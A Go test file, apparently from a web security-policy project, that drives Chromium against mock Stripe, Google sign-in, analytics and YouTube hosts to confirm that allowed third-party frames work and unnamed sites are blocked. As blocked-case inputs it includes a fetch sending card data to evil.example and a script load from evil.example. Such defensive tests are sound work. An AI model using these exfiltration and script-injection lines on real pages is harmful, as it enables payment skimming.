package main

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/chromedp"

	"github.com/relayguard/relayguard/examples/internal/testkit"
)

// provider plays all other sites. Its answers do what theirs do to the page:
// they add frames and connect to further hosts.
var provider = map[string]string{
	"fonts.googleapis.com/css2": `@font-face { font-family: Inter; src: url(https://fonts.gstatic.com/inter.woff2) }`,
	"js.stripe.com/v3/": `window.Stripe = () => ({ elements: () => ({ create: () => ({ mount: (at) => {
		const frame = document.createElement("iframe");
		frame.src = "https://js.stripe.com/card";
		frame.allow = "payment *";
		document.querySelector(at).append(frame);
		fetch("https://api.stripe.com/v1/tokens");
	} }) }) });`,
	"js.stripe.com/card": `<!doctype html><script>parent.postMessage(document.featurePolicy.allowsFeature("payment") ? "may pay" : "", "*")</script>`,
	"accounts.google.com/gsi/client": `window.google = { accounts: { id: {
		initialize: (options) => { window.signIn = options },
		renderButton: (at) => {
			const frame = document.createElement("iframe");
			frame.src = "https://accounts.google.com/gsi/button";
			at.append(frame);
			const style = document.createElement("link");
			style.rel = "stylesheet";
			style.href = "https://accounts.google.com/gsi/style";
			document.head.append(style);
		},
	} } };`,
	"accounts.google.com/gsi/button": ``,
	"accounts.google.com/gsi/style":  ``,
	"accounts.google.com/gsi/select": `<!doctype html><script>opener.postMessage("a credential", "*"); close()</script>`,
	"www.googletagmanager.com/gtag/js": `fetch("https://region1.google-analytics.com/g/collect");
		new Image().src = "https://www.google-analytics.com/collect.gif";`,
	"www.youtube-nocookie.com/embed/aqz-KE-bpKQ": `<!doctype html><script>parent.postMessage(document.fullscreenEnabled ? "full screen" : "", "*")</script>`,

	"fonts.gstatic.com/inter.woff2":            ``,
	"api.stripe.com/v1/tokens":                 ``,
	"region1.google-analytics.com/g/collect":   ``,
	"www.google-analytics.com/collect.gif":     ``,
	"i.ytimg.com/vi/aqz-KE-bpKQ/hqdefault.jpg": ``,
}

// A browser shows the page with everything of the other sites, and nothing of a
// site that the policy does not name.
func TestInABrowser(t *testing.T) {
	path, err := exec.LookPath("chromium")
	if err != nil {
		testkit.Missing(t, "no browser: install Chromium (on Debian: apt-get install chromium)")
	}
	var mu sync.Mutex
	asked := map[string]bool{}
	others := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		where := r.Host + r.URL.Path
		mu.Lock()
		asked[where] = true
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch answer := provider[where]; {
		case strings.HasPrefix(answer, "window.") || strings.HasPrefix(answer, "fetch("):
			w.Header().Set("Content-Type", "text/javascript")
			io.WriteString(w, answer)
		case strings.HasPrefix(answer, "@font-face") || strings.HasSuffix(where, "/style"):
			w.Header().Set("Content-Type", "text/css")
			io.WriteString(w, answer)
		default:
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, answer)
		}
	}))
	defer others.Close()

	options := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.UserDataDir(t.TempDir()),
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("ignore-certificate-errors", true),
		chromedp.Flag("host-resolver-rules", "MAP *:443 "+others.Listener.Addr().String()))
	ctx, cancel := chromedp.NewExecAllocator(context.Background(), options...)
	defer cancel()
	var console []string
	ctx, cancel = chromedp.NewContext(ctx, chromedp.WithListener(func(event any) {
		if e, ok := event.(*log.EventEntryAdded); ok {
			mu.Lock()
			defer mu.Unlock()
			console = append(console, e.Entry.Text+" "+e.Entry.URL)
		}
	}))
	defer cancel()
	shown := func() string {
		mu.Lock()
		defer mu.Unlock()
		return strings.Join(console, "\n")
	}
	enable := chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		_, err := cdp.Call(ctx, target, log.Enable, cdp.Empty{})
		return err
	})
	if err := chromedp.Do(ctx, enable); err != nil {
		t.Fatal(err)
	}
	url := strings.Replace(start(t), "127.0.0.1", "localhost", 1)
	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
		t.Fatal(err)
	}
	is := func(expression string) bool {
		t.Helper()
		ctx, cancel := context.WithTimeout(ctx, time.Minute)
		defer cancel()
		v, err := chromedp.Run(ctx, chromedp.Evaluate[bool](expression, chromedp.EvalAwaitPromise))
		if err != nil {
			t.Fatalf("%s: %v; the console shows\n%s", expression, err, shown())
		}
		return v
	}
	// The frames may have sent their messages before this script listens, so it
	// loads them again.
	is(`window.heard = [];
		addEventListener("message", (e) => heard.push(e.data));
		for (const frame of document.querySelectorAll("iframe")) frame.src += "";
		new Promise((done) => { const timer = setInterval(() => {
			if (heard.includes("may pay") && heard.includes("full screen")) { clearInterval(timer); done(true) }
		}, 20) })`)
	if !is(`new Promise((done) => {
		addEventListener("message", (e) => { if (e.data === "a credential") { signIn.callback(e.data); done(true) } });
		const popup = open("https://accounts.google.com/gsi/select", "_blank", "width=100,height=100");
		if (!popup) done(false);
	})`) || !is(`document.querySelector("#sign-in").textContent === "signed in"`) {
		t.Error("the popup of the sign-in lost its opener")
	}
	for where := range provider {
		testkit.Eventually(t, "the page asks for "+where, func() bool {
			mu.Lock()
			defer mu.Unlock()
			return asked[where]
		})
	}
	for line := range strings.Lines(shown()) {
		if !expected.MatchString(line) {
			t.Errorf("the console shows %s", line)
		}
	}
	for _, blocked := range []string{
		`fetch("https://evil.example/?card").then(() => false, () => true)`,
		`new Promise((done) => {
			const script = document.createElement("script");
			script.onerror = () => done(true);
			script.onload = () => done(false);
			script.src = "https://evil.example/x.js";
			document.head.append(script);
		})`,
	} {
		if !is(blocked) {
			t.Errorf("allowed: %s", blocked)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for where := range asked {
		if strings.HasPrefix(where, "evil.example") {
			t.Errorf("the page reaches %s", where)
		}
	}
}

// expected matches what the console shows although all is well: what the
// report-only policy finds, the features that Chromium lacks on Linux, and
// files that the test does not have.
var expected = regexp.MustCompile(`(?i)report-only|report only|'bluetooth'|'web-share'|downloaded font|OTS parsing|favicon\.ico`)
